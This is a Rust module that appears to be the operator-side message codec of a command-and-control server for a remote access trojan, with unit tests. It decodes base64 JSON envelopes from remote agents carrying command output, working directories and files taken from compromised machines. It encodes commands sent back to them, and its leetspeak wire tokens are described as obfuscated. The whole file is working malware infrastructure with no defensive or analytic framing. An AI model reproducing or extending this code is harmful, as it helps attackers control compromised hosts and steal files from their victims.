//! Wire envelope codec.
//!
//! Every agent request carries one JSON object:
//!
//! | Field     | Encoding | Meaning                                         |
//! |-----------|----------|-------------------------------------------------|
//! | `type`    | token    | Envelope kind, see [`EnvelopeKind`]             |
//! | `result`  | base64   | Command output, status text or vocabulary       |
//! | `pwd`     | base64   | Agent working directory (optional)              |
//! | `file`    | base64   | Transferred file content (`D0WNL04D` only)      |
//! | `pathDst` | plain    | Operator-side destination (`D0WNL04D` only)     |
//!
//! Decoding is fail-open: malformed JSON, unknown tokens and bad base64 all
//! degrade to empty values instead of errors, so a broken request can never
//! abort a cycle. The obfuscated tokens exist only in this module; everything
//! past [`decode`] works with the canonical enum.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use serde_json::Value;

/// Canonical envelope kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EnvelopeKind {
    NewConnection,
    CommandResult,
    UploadResult,
    DownloadResult,
    ErrorResult,
    AutocompleteResult,
}

/// Console color hint attached to an envelope kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tone {
    Neutral,
    Success,
    Error,
}

/// Canonical kind ↔ wire token. Exhaustive; order is irrelevant.
const WIRE_TOKENS: [(EnvelopeKind, &str); 6] = [
    (EnvelopeKind::NewConnection, "newclient"),
    (EnvelopeKind::CommandResult, "C0MM4ND"),
    (EnvelopeKind::UploadResult, "UPL04D"),
    (EnvelopeKind::DownloadResult, "D0WNL04D"),
    (EnvelopeKind::ErrorResult, "3RR0R"),
    (EnvelopeKind::AutocompleteResult, "4UT0C0MPL3T3"),
];

impl EnvelopeKind {
    /// Map a wire token to its kind. `None` for anything not in the table.
    pub fn from_wire(token: &str) -> Option<Self> {
        WIRE_TOKENS
            .iter()
            .find(|(_, t)| *t == token)
            .map(|(kind, _)| *kind)
    }

    #[must_use]
    pub fn wire_token(self) -> &'static str {
        WIRE_TOKENS
            .iter()
            .find(|(kind, _)| *kind == self)
            .map_or("C0MM4ND", |(_, t)| t)
    }

    /// Color hint used when the payload is surfaced to the operator.
    #[must_use]
    pub fn tone(self) -> Option<Tone> {
        match self {
            Self::CommandResult => Some(Tone::Neutral),
            Self::UploadResult | Self::DownloadResult => Some(Tone::Success),
            Self::ErrorResult => Some(Tone::Error),
            Self::NewConnection | Self::AutocompleteResult => None,
        }
    }
}

/// File content pushed by the agent for the operator to persist.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TransferredFile {
    /// Operator-local destination path, sent in plain text.
    pub destination: String,
    /// Base64 file content, still encoded.
    pub content: String,
    /// Human-readable status line to show once the write succeeds.
    pub status: String,
}

/// One decoded inbound message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Envelope {
    pub kind: EnvelopeKind,
    pub payload: String,
    /// Decoded `pwd` field; `None` when absent or empty on the wire.
    pub working_directory: Option<String>,
    /// Only ever set for [`EnvelopeKind::DownloadResult`].
    pub transferred_file: Option<TransferredFile>,
}

impl Envelope {
    /// The fallback envelope produced for anything undecodable.
    #[must_use]
    pub fn empty() -> Self {
        Self {
            kind: EnvelopeKind::CommandResult,
            payload: String::new(),
            working_directory: None,
            transferred_file: None,
        }
    }

    /// Text the working directory is taken from: `pwd` when present, else the
    /// payload itself.
    pub fn directory_source(&self) -> &str {
        self.working_directory.as_deref().unwrap_or(&self.payload)
    }
}

/// Decode a raw request body. Never fails.
pub fn decode(raw: &[u8]) -> Envelope {
    let Ok(Value::Object(fields)) = serde_json::from_slice::<Value>(raw) else {
        return Envelope::empty();
    };
    let text = |name: &str| fields.get(name).and_then(Value::as_str);

    let Some(kind) = text("type").and_then(EnvelopeKind::from_wire) else {
        return Envelope::empty();
    };

    let raw_result = text("result").unwrap_or_default();
    let payload = decode_text(raw_result);
    let working_directory = text("pwd").filter(|p| !p.is_empty()).map(decode_text);

    let transferred_file = if kind == EnvelopeKind::DownloadResult {
        match (text("pathDst"), text("file"), text("result")) {
            (Some(dst), Some(content), Some(status))
                if !dst.is_empty() && !content.is_empty() && !status.is_empty() =>
            {
                // Agents send the status either encoded or plain.
                let status = if payload.is_empty() {
                    status.to_string()
                } else {
                    payload.clone()
                };
                Some(TransferredFile {
                    destination: dst.to_string(),
                    content: content.to_string(),
                    status,
                })
            }
            _ => None,
        }
    } else {
        None
    };

    Envelope {
        kind,
        payload,
        working_directory,
        transferred_file,
    }
}

/// Encode an outbound command for the control header.
pub fn encode_command(command: &str) -> String {
    STANDARD.encode(command.as_bytes())
}

/// Base64-decode a wire field into UTF-8, or `""` on any failure.
pub fn decode_text(encoded: &str) -> String {
    STANDARD
        .decode(encoded.trim())
        .ok()
        .and_then(|bytes| String::from_utf8(bytes).ok())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn body(value: &Value) -> Vec<u8> {
        serde_json::to_vec(value).unwrap()
    }

    #[test]
    fn test_wire_tokens_map_exactly() {
        let expected = [
            ("newclient", EnvelopeKind::NewConnection),
            ("C0MM4ND", EnvelopeKind::CommandResult),
            ("UPL04D", EnvelopeKind::UploadResult),
            ("D0WNL04D", EnvelopeKind::DownloadResult),
            ("3RR0R", EnvelopeKind::ErrorResult),
            ("4UT0C0MPL3T3", EnvelopeKind::AutocompleteResult),
        ];
        for (token, kind) in expected {
            assert_eq!(EnvelopeKind::from_wire(token), Some(kind));
            assert_eq!(kind.wire_token(), token);
        }
        assert_eq!(EnvelopeKind::from_wire("c0mm4nd"), None);
        assert_eq!(EnvelopeKind::from_wire("COMMAND"), None);
        assert_eq!(EnvelopeKind::from_wire(""), None);
    }

    #[test]
    fn test_unknown_token_is_empty_command_result() {
        let env = decode(&body(&json!({
            "type": "S1GN4L",
            "result": encode_command("ignored"),
        })));
        assert_eq!(env, Envelope::empty());
    }

    #[test]
    fn test_junk_input_never_fails() {
        let inputs: [&[u8]; 6] = [
            b"",
            b"{",
            b"not json at all",
            b"[1,2,3]",
            b"{\"type\": 42}",
            &[0xff, 0xfe, 0x00, 0x7b],
        ];
        for raw in inputs {
            let env = decode(raw);
            assert_eq!(env.kind, EnvelopeKind::CommandResult);
            assert!(env.payload.is_empty());
        }
    }

    #[test]
    fn test_invalid_base64_payload_is_empty() {
        let env = decode(&body(&json!({"type": "C0MM4ND", "result": "%%%not-b64"})));
        assert_eq!(env.kind, EnvelopeKind::CommandResult);
        assert_eq!(env.payload, "");
    }

    #[test]
    fn test_payload_round_trip() {
        for s in ["", "whoami", "C:\\Users\\x", "dir \"C:\\Program Files\"", "ünïcødé ✓"] {
            let env = decode(&body(&json!({"type": "C0MM4ND", "result": encode_command(s)})));
            assert_eq!(env.payload, s);
        }
    }

    #[test]
    fn test_working_directory_falls_back_to_payload() {
        let with_pwd = decode(&body(&json!({
            "type": "C0MM4ND",
            "result": encode_command("output"),
            "pwd": encode_command("C:\\Windows"),
        })));
        assert_eq!(with_pwd.directory_source(), "C:\\Windows");

        let without_pwd = decode(&body(&json!({
            "type": "C0MM4ND",
            "result": encode_command("C:\\Temp"),
        })));
        assert_eq!(without_pwd.working_directory, None);
        assert_eq!(without_pwd.directory_source(), "C:\\Temp");

        let empty_pwd = decode(&body(&json!({
            "type": "C0MM4ND",
            "result": encode_command("C:\\Temp"),
            "pwd": "",
        })));
        assert_eq!(empty_pwd.working_directory, None);
    }

    #[test]
    fn test_download_fields_extracted() {
        let env = decode(&body(&json!({
            "type": "D0WNL04D",
            "result": encode_command("[+] File downloaded"),
            "file": "QUJD",
            "pathDst": "/tmp/out.bin",
        })));
        let file = env.transferred_file.unwrap();
        assert_eq!(file.destination, "/tmp/out.bin");
        assert_eq!(file.content, "QUJD");
        assert_eq!(file.status, "[+] File downloaded");
    }

    #[test]
    fn test_download_plain_status_kept_verbatim() {
        let env = decode(&body(&json!({
            "type": "D0WNL04D",
            "result": "File downloaded!",
            "file": "QUJD",
            "pathDst": "/tmp/out.bin",
        })));
        assert_eq!(env.transferred_file.unwrap().status, "File downloaded!");
    }

    #[test]
    fn test_download_missing_field_skips_transfer() {
        let missing_dst = decode(&body(&json!({
            "type": "D0WNL04D",
            "result": encode_command("done"),
            "file": "QUJD",
        })));
        assert_eq!(missing_dst.kind, EnvelopeKind::DownloadResult);
        assert!(missing_dst.transferred_file.is_none());

        let empty_file = decode(&body(&json!({
            "type": "D0WNL04D",
            "result": encode_command("done"),
            "file": "",
            "pathDst": "/tmp/x",
        })));
        assert!(empty_file.transferred_file.is_none());

        let missing_status = decode(&body(&json!({
            "type": "D0WNL04D",
            "file": "QUJD",
            "pathDst": "/tmp/x",
        })));
        assert!(missing_status.transferred_file.is_none());
    }

    #[test]
    fn test_file_ignored_outside_download() {
        let env = decode(&body(&json!({
            "type": "UPL04D",
            "result": encode_command("uploaded"),
            "file": "QUJD",
            "pathDst": "/tmp/x",
        })));
        assert!(env.transferred_file.is_none());
    }

    #[test]
    fn test_tones() {
        assert_eq!(EnvelopeKind::CommandResult.tone(), Some(Tone::Neutral));
        assert_eq!(EnvelopeKind::UploadResult.tone(), Some(Tone::Success));
        assert_eq!(EnvelopeKind::DownloadResult.tone(), Some(Tone::Success));
        assert_eq!(EnvelopeKind::ErrorResult.tone(), Some(Tone::Error));
        assert_eq!(EnvelopeKind::NewConnection.tone(), None);
        assert_eq!(EnvelopeKind::AutocompleteResult.tone(), None);
    }
}
